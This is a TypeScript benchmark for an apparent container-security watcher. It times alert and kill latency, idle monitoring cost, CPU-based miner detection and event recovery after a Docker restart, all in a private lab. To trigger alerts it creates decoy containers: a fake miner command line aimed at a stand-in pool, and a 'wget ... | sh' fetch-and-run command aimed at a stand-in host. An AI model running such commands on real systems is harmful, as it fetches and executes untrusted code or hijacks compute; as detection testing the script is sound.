// Watch benchmark (not a test): time from container start to alert and to the response taking effect over
// many containers, the cost of watching 200 running containers, and no missed event across an engine restart.
// Runs its own private dockerd (bench dir) so it can restart it without disturbing the test lab.
// Usage: npx tsx bench/watch/run.ts [--containers 40] [--idle 200] [--idle-seconds 60]
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

process.env.PORTCULLIS_LAB_DIR ??= '/tmp/portcullis-bench-watch';

const arg = (name: string, def: number) => {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 ? Number(process.argv[i + 1]) : def;
};
const N = arg('containers', 40);
const IDLE = arg('idle', 200);
const IDLE_SECONDS = arg('idle-seconds', 60);
const WALLET = `4${'B'.repeat(94)}`;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function pct(xs: number[], p: number): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] ?? NaN;
}

async function main(): Promise<void> {
  const { startLab, stopLab, docker } = await import('../../test/lab/lab.js');
  const { ensureImages } = await import('../../test/lab/images.js');
  const { EngineClient, resolveDockerHost } = await import('../../src/core/engine/index.js');
  const { EventLog } = await import('../../src/core/events/index.js');
  const { createCoreAnalyzer } = await import('../../src/watcher/core-analyzer.js');
  const { DEFAULT_POLICY, parseResponseSpecs } = await import('../../src/watcher/response-policy.js');
  const { Watcher } = await import('../../src/watcher/watcher.js');

  let lab = await startLab();
  ensureImages(lab);
  const rmAll = () => {
    const ids = docker(lab, ['ps', '-aq', '--filter', 'name=pcl-bench-']).split('\n').filter(Boolean);
    for (let i = 0; i < ids.length; i += 50) docker(lab, ['rm', '-f', ...ids.slice(i, i + 50)]);
  };
  rmAll();
  const client = new EngineClient(resolveDockerHost(lab.dockerHost));

  // 1. Start-to-alert and start-to-effect latency, with a kill response for miner arguments.
  const alertAt = new Map<string, number>();
  const killedAt = new Map<string, number>();
  const watcher = new Watcher({
    client, analyzer: createCoreAnalyzer(), dryRun: false,
    events: new EventLog({ sinks: [{ name: 'bench', write: (e) => {
      if (e.eventid === 'watch.response.taken') killedAt.set((e.container as { name: string }).name, performance.now());
    } }] }),
    policy: { ...DEFAULT_POLICY, ...parseResponseSpecs(['critical=kill']) }, sampleIntervalMs: 1000, localEngine: true,
    onAlert: (a) => { if (!alertAt.has(a.container.name)) alertAt.set(a.container.name, performance.now()); },
  });
  await watcher.start();
  const startLatency: number[] = [];
  const effectLatency: number[] = [];
  for (let i = 0; i < N; i++) {
    const name = `pcl-bench-miner-${i}`;
    // What `docker run -d` sends: create, then start; the clock starts at the create request, so the figure
    // includes the engine's own create and start time.
    const t0 = performance.now();
    const created = await client.request<{ Id: string }>(`/containers/create?name=${name}`, { method: 'POST', body: {
      Image: 'alpine', Cmd: ['sh', '-c', `printf '#!/bin/sh\\nsleep 600\\n' > /tmp/m && chmod +x /tmp/m && exec /tmp/m -o stratum+tcp://pool.example.invalid:3333 -u ${WALLET} --donate-level=1`],
      HostConfig: { NetworkMode: 'none' },
    } });
    await client.request(`/containers/${created.body.Id}/start`, { method: 'POST' });
    const tStart = performance.now();
    for (let w = 0; w < 300 && !killedAt.has(name); w++) await sleep(5);
    const alerted = alertAt.get(name);
    if (alerted !== undefined) startLatency.push(Math.max(0, alerted - tStart));
    const killed = killedAt.get(name);
    if (killed !== undefined) {
      // Effect: the engine reports the container not running.
      for (let w = 0; w < 500; w++) {
        const r = await client.json<{ State: { Running: boolean } }>(`/containers/${name}/json`);
        if (!r.State.Running) { effectLatency.push(performance.now() - tStart); break; }
        await sleep(5);
      }
    }
    void t0;
  }
  watcher.stop();
  rmAll();

  // 2. Cost of watching IDLE running containers for IDLE_SECONDS with 5 s sampling.
  for (let i = 0; i < IDLE; i++) docker(lab, ['run', '-d', '--name', `pcl-bench-idle-${i}`, '--network', 'none', 'alpine', 'sleep', '3600']);
  const idleWatcher = new Watcher({
    client, analyzer: createCoreAnalyzer(), events: new EventLog({ sinks: [] }), dryRun: true, policy: DEFAULT_POLICY,
    sampleIntervalMs: 5000, localEngine: true,
  });
  const cpu0 = process.cpuUsage();
  const wall0 = performance.now();
  await idleWatcher.start();
  let peakRss = 0;
  const rssTimer = setInterval(() => { peakRss = Math.max(peakRss, process.memoryUsage().rss); }, 250);
  await sleep(IDLE_SECONDS * 1000);
  clearInterval(rssTimer);
  idleWatcher.stop();
  const cpu = process.cpuUsage(cpu0);
  const wall = performance.now() - wall0;
  const passes = [...idleWatcher.samplePassMs];

  // 2b. Later evidence from CPU statistics: busy loops with an innocent name among the 200, 5 s sampling and
  // the default 3-sample window and 0.8-core threshold: time from its start to PCL-MIN-010.
  const cpuAlertAt = new Map<string, number>();
  const cpuWatcher = new Watcher({
    client, analyzer: createCoreAnalyzer(), events: new EventLog({ sinks: [] }), dryRun: true, policy: DEFAULT_POLICY,
    sampleIntervalMs: 5000, localEngine: true,
    onAlert: (a) => { if (a.finding.ruleId === 'PCL-MIN-010' && !cpuAlertAt.has(a.container.name)) cpuAlertAt.set(a.container.name, performance.now()); },
  });
  await cpuWatcher.start();
  const busyStart = performance.now();
  // One loop per core, as a miner runs a thread per core.
  docker(lab, ['run', '-d', '--name', 'pcl-bench-busy', '--network', 'none', 'alpine', 'sh', '-c', 'while :; do :; done & while :; do :; done']);
  for (let w = 0; w < 600 && !cpuAlertAt.has('pcl-bench-busy'); w++) await sleep(100);
  cpuWatcher.stop();
  const busyAlertMs = cpuAlertAt.has('pcl-bench-busy') ? (cpuAlertAt.get('pcl-bench-busy') as number) - busyStart : null;
  rmAll();

  // 3. No missed event across an engine restart: containers created while dockerd is down... cannot be; so
  // create them right after it comes back, before the watcher has reconnected.
  const restartWatcherAlerts = new Set<string>();
  const rw = new Watcher({
    client, analyzer: createCoreAnalyzer(), events: new EventLog({ sinks: [] }), dryRun: true, policy: DEFAULT_POLICY,
    sampleIntervalMs: 0, localEngine: true, onAlert: (a) => restartWatcherAlerts.add(a.container.name),
  });
  await rw.start();
  await stopLab({ ...lab, startedHere: true });
  lab = await startLab();
  const M = 20;
  for (let i = 0; i < M; i++) {
    docker(lab, ['create', '--name', `pcl-bench-restart-${i}`, '--network', 'none', 'alpine', 'sh', '-c', 'wget -qO- http://example.invalid/x | sh']);
  }
  for (let w = 0; w < 300 && restartWatcherAlerts.size < M; w++) await sleep(100);
  rw.stop();
  const caught = [...restartWatcherAlerts].filter((n) => n.startsWith('pcl-bench-restart-')).length;
  rmAll();

  const result = {
    date: new Date().toISOString(),
    engine: execFileSync('dockerd', ['--version'], { encoding: 'utf8' }).trim(),
    // Negative would mean the alert came at create time, before start: reported as 0.
    startToAlertMs: { n: startLatency.length, median: pct(startLatency, 50), p90: pct(startLatency, 90), worst: Math.max(...startLatency) },
    startToKilledMs: { n: effectLatency.length, median: pct(effectLatency, 50), p90: pct(effectLatency, 90), worst: Math.max(...effectLatency) },
    idleCost: {
      containers: IDLE, seconds: Math.round(wall / 1000), samplePeriodS: 5,
      cpuPercentOfOneCore: Number((((cpu.user + cpu.system) / 1000) / wall * 100).toFixed(2)), peakRssMiB: Math.round(peakRss / 1048576),
      // A pass reads inspect, top and (all at once, bounded) CPU statistics of every running container.
      samplePassMs: { passes: passes.length, median: Math.round(pct(passes, 50)), worst: Math.round(Math.max(...passes)) },
    },
    // 5 s sampling, 3-sample window, 200 idle containers beside it.
    busyLoopStartToCpuAlertMs: busyAlertMs === null ? null : Math.round(busyAlertMs),
    engineRestart: { createdAfterRestart: M, alerted: caught },
  };
  mkdirSync(join('bench', 'results'), { recursive: true });
  writeFileSync(join('bench', 'results', 'watch.json'), `${JSON.stringify(result, null, 2)}\n`);
  process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
  await stopLab({ ...lab, startedHere: true });
}

main().catch((err) => { process.stderr.write(`${err instanceof Error ? err.stack : String(err)}\n`); process.exit(1); });
